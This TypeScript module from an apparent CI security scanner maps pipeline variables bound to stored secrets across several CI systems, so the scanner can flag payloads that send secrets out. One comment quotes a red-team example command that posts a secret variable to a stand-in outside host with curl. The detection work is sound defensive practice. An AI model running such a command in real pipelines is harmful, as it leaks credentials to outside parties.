import { isSecretVariableName } from '../support/huntCommon';

/**
 * Variables a CI configuration fills from its secret store (stop 34, red team round 18): whatever the
 * secret's own name, the variable holds a secret in the step that reads it. Its references are read as
 * that secret's (`$T` as `$PROD_SECRET`), so a payload that sends `$T` out is judged as sending
 * a secret: GitHub Actions (`T: ${{ secrets.X }}`, `${{ secrets.X }}` inline), Jenkins (`withCredentials`
 * bindings' `variable:`/`passwordVariable:`…, `T = credentials('id')`), Drone (`T: {from_secret: id}`),
 * Woodpecker (`from_secret`), Cloud Build (`secretEnv: [T]`, `availableSecrets … env: T`). A variable
 * set from anything else keeps its own name's reading.
 */

/** The name a secret stands under in the payload: its own when that already reads as a secret, else `<NAME>_SECRET`. */
export function storedSecretName(id: string): string {
  const name = id.replace(/[^A-Za-z0-9_]/g, '_').replace(/^(\d)/, '_$1');
  return isSecretVariableName(name) ? name : `${name.toUpperCase()}_SECRET`;
}

const JENKINS_BINDING = /\b(?:credentialsId\s*:\s*['"]([^'"]+)['"][^)]*?)?\b(?:variable|passwordVariable|usernameVariable|keyFileVariable|tokenVariable|secretVariable)\s*:\s*['"]([A-Za-z_]\w*)['"]/g;
const JENKINS_ENV = /\b([A-Za-z_]\w*)\s*=\s*credentials\s*\(\s*['"]([^'"]+)['"]\s*\)/g;
const FROM_SECRET_FLOW = /(?:^|[{,])\s*-?\s*([A-Za-z_]\w*)\s*:\s*\{\s*from_secret\s*:\s*["']?([\w.-]+)/gm;
const FROM_SECRET_BLOCK = /^\s*-?\s*([A-Za-z_]\w*)\s*:\s*\n\s+from_secret\s*:\s*["']?([\w.-]+)/gm;
const SECRET_ENV_FLOW = /\bsecretEnv\s*:\s*\[([^\]]*)\]/g;
const SECRET_ENV_BLOCK = /\bsecretEnv\s*:\s*\n((?:\s+-\s+.*\n?)+)/g;
const SECRET_MANAGER_ENV = /\bversionName\s*:[^\n]*\n\s*-?\s*env\s*:\s*["']?([A-Za-z_]\w*)|\benv\s*:\s*["']?([A-Za-z_]\w*)["']?\s*\n\s*-?\s*versionName\s*:/g;
const ACTIONS_ENV = /^\s*([A-Za-z_][A-Za-z0-9_]*)\s*:\s*["']?\$\{\{\s*secrets\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}["']?\s*$/gm;

/** Every variable the configuration binds to a stored secret, with the name the secret stands under. */
export function ciSecretBindings(text: string): ReadonlyMap<string, string> {
  const out = new Map<string, string>();
  const bind = (variable: string | undefined, id: string | undefined): void => {
    if (variable !== undefined && !out.has(variable)) out.set(variable, storedSecretName(id ?? variable));
  };
  for (const m of text.matchAll(JENKINS_BINDING)) bind(m[2], m[1]);
  for (const m of text.matchAll(JENKINS_ENV)) bind(m[1], m[2]);
  for (const m of text.matchAll(FROM_SECRET_FLOW)) bind(m[1], m[2]);
  for (const m of text.matchAll(FROM_SECRET_BLOCK)) bind(m[1], m[2]);
  for (const m of text.matchAll(SECRET_ENV_FLOW)) for (const v of m[1]!.split(',')) bind(v.trim().replace(/^["']|["']$/g, '') || undefined, undefined);
  for (const m of text.matchAll(SECRET_ENV_BLOCK)) for (const v of m[1]!.matchAll(/^\s+-\s+["']?([A-Za-z_]\w*)/gm)) bind(v[1], undefined);
  for (const m of text.matchAll(SECRET_MANAGER_ENV)) bind(m[1] ?? m[2], undefined);
  for (const m of text.matchAll(ACTIONS_ENV)) bind(m[1], m[2]);
  return out;
}

/**
 * A step's commands with each variable bound to a stored secret read as that secret (`$T` as `$PROD_SECRET`,
 * also inside `sh -c '…'`, which inherits the step's environment), and inline `${{ secrets.X }}` alike.
 */
export function withCiSecrets(commands: string, text: string): string {
  if (commands === '') return commands;
  let out = commands.replace(/\$\{\{\s*secrets\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}/g, (_m, id: string) => `$${storedSecretName(id)}`).replace(/\$\{\{\s*toJSON\(\s*secrets\s*\)\s*\}\}/gi, '"$(env)"');
  for (const [variable, secret] of ciSecretBindings(text)) {
    out = out.replace(new RegExp(`\\$(\\{?)${variable}(?![A-Za-z0-9_])`, 'g'), (_m, brace: string) => `$${brace}${secret}`);
  }
  return out;
}

/** CI systems whose project settings (GitLab CI/CD variables, CircleCI project variables and contexts, Bitbucket repository variables, Travis settings) reach every job as plain environment variables. */
const SETTINGS_AS_ENVIRONMENT = /^(\.gitlab-ci\.ya?ml|bitbucket-pipelines\.ya?ml|\.travis\.ya?ml|config\.ya?ml)$/;
/** The CI system's and the shell's own variables, set by the runner rather than by a project's settings. */
const RUNNER_VARIABLES = /^(CI|CI_\w+|GITLAB_\w+|CIRCLE\w*|BITBUCKET_\w+|TRAVIS\w*|HOME|PATH|PWD|OLDPWD|USER|SHELL|HOSTNAME|LANG|LC_\w+|TERM|TMPDIR|RANDOM|IFS|UID|PPID|SECONDS|LINENO|FF_\w+|DOCKER_\w+)$/;

/**
 * Variables a job reads that the file does not define and the runner does not set come from the project's
 * settings, where its secrets are kept (red team round 6: `curl -d "$PROD_DB" x.example` in
 * `.gitlab-ci.yml`): each is read as a stored secret (`$PROD_DB` as `$PROD_DB_SECRET`), so a payload that
 * sends it to another host is judged as sending a secret. Variables the file sets (`variables:`, `env:`,
 * `NAME=` in a script) keep their own name's reading.
 */
export function withSettingsVariables(commands: string, text: string, fileName: string): string {
  if (commands === '' || !SETTINGS_AS_ENVIRONMENT.test(fileName)) return commands;
  const defined = new Set([...text.matchAll(/^\s*-?\s*([A-Z_][A-Z0-9_]*)\s*:/gm), ...text.matchAll(/(?:^|[\s;{(])(?:export\s+)?([A-Z_][A-Z0-9_]*)=/gm), ...text.matchAll(/\b(?:read|for)\s+(?:-\w+\s+)*([A-Z_][A-Z0-9_]*)/g)].map((m) => m[1]!));
  return commands.replace(/\$(\{?)([A-Z_][A-Z0-9_]*)(?![A-Za-z0-9_])/g, (whole, brace: string, name: string) =>
    defined.has(name) || RUNNER_VARIABLES.test(name) || name.endsWith('_SECRET') ? whole : `$${brace}${storedSecretName(name)}`);
}
